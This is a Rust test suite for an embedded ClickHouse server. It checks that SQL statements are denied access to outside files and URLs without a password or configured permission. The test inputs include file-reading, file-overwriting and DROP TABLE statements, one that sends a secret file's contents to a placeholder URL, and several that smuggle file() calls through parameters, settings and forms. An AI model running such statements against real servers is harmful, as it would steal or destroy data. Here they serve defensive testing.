//! No statement reaches outside of the engine's own tables, unless that is configured.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::process::Command;
use std::time::Duration;

use marketprism_testkit::{Process, binary, libchdb};
use reqwest::Method;

use crate::client::{Client, http, query};
use crate::doors::{REFUSED, WITHOUT_EFFECT};

const SECRET: &str = "the-secret-of-this-machine";

/// A folder of somebody else with a file in it, and a server that waits for what is carried out.
struct Outside {
    folder: tempfile::TempDir,
    listener: TcpListener,
}

impl Outside {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("secret.csv"), format!("{SECRET}\n")).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self { folder, listener }
    }

    /// `{folder}` and `{address}` filled in.
    fn fill(&self, statement: &str) -> String {
        let address = self.listener.local_addr().unwrap();
        statement
            .replace("{folder}", self.folder.path().to_str().unwrap())
            .replace("{address}", &address.to_string())
            .replace("{port}", &address.port().to_string())
    }

    /// Nothing was written, nothing was sent.
    fn assert_untouched(&self, statement: &str) {
        let names: Vec<_> =
            std::fs::read_dir(self.folder.path()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
        assert_eq!(names, ["secret.csv"], "{statement}");
        let text = std::fs::read_to_string(self.folder.path().join("secret.csv")).unwrap();
        assert_eq!(text, format!("{SECRET}\n"), "{statement}");
        let error = self.listener.accept().expect_err(statement);
        assert_eq!(error.kind(), ErrorKind::WouldBlock, "{statement}");
    }
}

/// What any page or program of the machine could do before.
const ATTACKS: [&str; 4] = [
    "SELECT * FROM file('{folder}/secret.csv', 'LineAsString')",
    "INSERT INTO FUNCTION file('{folder}/secret.csv', 'LineAsString', 's String') SELECT 'echo mine'",
    "INSERT INTO FUNCTION url('http://{address}/x', 'LineAsString', 'line String') SELECT line FROM file('{folder}/secret.csv', 'LineAsString')",
    "DROP TABLE kept.t",
];

#[tokio::test]
async fn nothing_is_run_without_the_password() {
    let owner = Client::start();
    owner.run("CREATE DATABASE kept").await;
    owner.run("CREATE TABLE kept.t (n UInt8) ENGINE = MergeTree ORDER BY n").await;
    let outside = Outside::new();
    for statement in ATTACKS.map(|statement| outside.fill(statement)) {
        for (method, parameters, body) in [
            (Method::POST, String::new(), statement.clone()),
            (Method::GET, query(&statement), String::new()),
        ] {
            let answer = owner.send_without_password(method, &parameters, body).await;
            assert_eq!(answer.status, 403, "{statement}: {}", answer.text());
            assert_eq!(answer.header("x-clickhouse-exception-code"), "516", "{statement}");
            outside.assert_untouched(&statement);
        }
    }
    assert_eq!(owner.count("kept.t").await, 0);
}

#[tokio::test]
async fn nothing_outside_is_reached_with_the_password() {
    let client = Client::start();
    client.run("CREATE DATABASE inside").await;
    client.run("CREATE TABLE inside.t (a String) ENGINE = MergeTree ORDER BY a").await;
    let outside = Outside::new();
    let mut open = Vec::new();
    for (statement, has_code) in ATTACKS[..3]
        .iter()
        .chain(REFUSED)
        .map(|statement| (outside.fill(statement), true))
        .chain(WITHOUT_EFFECT.iter().map(|statement| (outside.fill(statement), false)))
    {
        let answer = client.post("", statement.clone()).await;
        let text = answer.text();
        let refused = answer.status != 200 && !text.contains(SECRET);
        let denied = answer.header("x-clickhouse-exception-code") == "497"
            && answer.status == 403
            && text.starts_with("Code: 497. DB::Exception: ")
            && text.contains("allow_outside");
        if !refused || (has_code && !denied) {
            open.push(format!("{statement}: {} {text}", answer.status));
        }
        outside.assert_untouched(&statement);
    }
    assert!(open.is_empty(), "{}", open.join("\n"));
    let addresses = client.server.admin_addresses();
    let metrics = http().get(format!("http://{}/metrics", addresses["metrics"].as_str().unwrap()));
    let metrics = metrics.send().await.unwrap().text().await.unwrap();
    let name = "marketprism_embedded_clickhouse_statements_denied_total ";
    let denied = metrics.lines().find_map(|line| line.strip_prefix(name)).unwrap();
    assert!(denied.parse::<usize>().unwrap() >= ATTACKS.len() - 1 + REFUSED.len(), "{denied}");
    let mut client = client;
    assert!(client.server.process().log().contains("a statement is denied"));
}

#[tokio::test]
async fn parameters_settings_and_forms_open_nothing() {
    let client = Client::start();
    let outside = Outside::new();
    let path = outside.fill("{folder}/secret.csv");
    let encode = |pairs: &[(&str, &str)]| {
        let mut text = form_urlencoded::Serializer::new(String::new());
        text.extend_pairs(pairs).finish()
    };
    let template = [("format_template_resultset", path.as_str())];
    let filter = format!("{{'system.one':'length(file(''{path}'')) > 0'}}");
    for (parameters, statement) in [
        (encode(&[("param_f", "file"), ("param_p", &path)]), "SELECT arrayMap({f:Identifier}, [{p:String}])"),
        (encode(&[("param_p", &path)]), "SELECT * FROM {p:Identifier}"),
        (encode(&[("param_p", &path)]), "SELECT file({p:String})"),
        (encode(&template), "SELECT 1 FORMAT Template"),
        (encode(&[("additional_table_filters", &filter)]), "SELECT * FROM system.one"),
        (encode(&[("query", &format!("SELECT * FROM `{path}`"))]), ""),
        (encode(&[("query", "SELECT * FROM "), ("query", &format!("file('{path}')"))]), ""),
    ] {
        for session in ["", "&session_id=one"] {
            let answer = client.post(&format!("{parameters}{session}"), statement).await;
            let code = answer.header("x-clickhouse-exception-code").to_owned();
            assert_eq!(code, "497", "{parameters} {statement}: {}", answer.text());
            assert!(!answer.text().contains(SECRET), "{parameters} {statement}: {}", answer.text());
        }
    }
    // In a session, what was set by one request is used by the next.
    assert_eq!(client.post("session_id=two", "SET param_f = 'file'").await.status, 200);
    let statement = format!("SELECT arrayMap({{f:Identifier}}, ['{path}'])");
    assert_eq!(client.fail("session_id=two", statement).await.0, 497);
    // A form.
    let boundary = [("content-type", "multipart/form-data; boundary=b")];
    let form = format!(
        "--b\r\nContent-Disposition: form-data; name=\"query\"\r\n\r\nSELECT * FROM file('{path}')\r\n--b--\r\n"
    );
    let answer = client.send(Method::POST, "", &boundary, form).await;
    assert_eq!(answer.header("x-clickhouse-exception-code"), "497", "{}", answer.text());
    // Expressions in the data of an insert, and in a database of one's own.
    client.run("CREATE TABLE default.t (a String) ENGINE = MergeTree ORDER BY a").await;
    let answer = client.post("", format!("INSERT INTO default.t VALUES (file('{path}'))")).await;
    assert_ne!(answer.status, 200, "{}", answer.text());
    assert_eq!(client.count("default.t").await, 0);
    assert_eq!(client.fail("database=default", format!("SELECT * FROM `{path}`")).await.0, 497);
    outside.assert_untouched("parameters");
}

#[tokio::test]
async fn what_is_configured_is_allowed_and_nothing_more() {
    let outside = Outside::new();
    let dir = tempfile::tempdir().unwrap();
    let file = "SELECT * FROM file('{folder}/secret.csv', 'LineAsString')";
    let url = "SELECT * FROM url('http://{address}/x', 'LineAsString', 'line String')";
    for (name, allowed, statement, refused) in
        [("file", "[FILE]", file, Some(url)), ("all", "[ALL]", "SELECT file('{folder}/secret.csv')", None)]
    {
        let config = dir.path().join(format!("{name}.yaml"));
        let folder = dir.path().join(name);
        let text = format!(
            "listen: 127.0.0.1:0\npath: {0}\naddress_file: {0}.address\nallow_outside: {allowed}\nadmin:\n  health_listen: 127.0.0.1:0\n  metrics_listen: 127.0.0.1:0\n",
            folder.display()
        );
        std::fs::write(&config, text).unwrap();
        let mut command = Command::new(binary("marketprism-embedded-clickhouse"));
        command.env("LIBCHDB", libchdb()).arg("--config").arg(&config);
        let mut process = Process::spawn(name, command, &dir.path().join(format!("{name}.log")));
        let address_file = dir.path().join(format!("{name}.address"));
        let address = process.wait_for_file(&address_file, Duration::from_secs(60));
        let http = http();
        let ask = async |statement: &str| {
            let request = http.post(format!("http://{address}/")).body(outside.fill(statement));
            let response = request.send().await.unwrap();
            (response.status().as_u16(), response.text().await.unwrap())
        };
        let (status, answer) = ask(statement).await;
        assert!(status == 200 && answer.contains(SECRET), "{name}: {answer}");
        if let Some(refused) = refused {
            let (status, answer) = ask(refused).await;
            assert!(status == 403 && answer.contains("READ ON URL"), "{name}: {answer}");
        }
        // It has no password, and says so once.
        let warnings = process.log().matches("no password is set").count();
        assert_eq!(warnings, 1, "{}", process.log());
        assert!(process.stop().success());
    }
    outside.assert_untouched("allowed");
}
